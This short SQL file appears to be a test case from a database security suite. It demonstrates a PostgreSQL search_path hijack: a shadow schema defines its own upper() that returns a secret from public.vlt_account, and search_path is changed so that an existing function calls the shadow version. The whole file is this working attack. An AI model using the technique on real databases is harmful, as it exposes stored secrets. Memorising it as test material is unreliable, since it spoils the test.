-- Puts a function in front of one of the server's own that a body calls.
-- wants: read
-- attack:
CREATE FUNCTION shout(word text) RETURNS text LANGUAGE sql AS 'SELECT upper(word)';
SELECT shout('x');
CREATE SCHEMA shadow;
CREATE FUNCTION shadow.upper(text) RETURNS text LANGUAGE sql AS 'SELECT secret FROM public.vlt_account LIMIT 1';
SET search_path = shadow, pg_catalog, public;
SELECT shout('x');
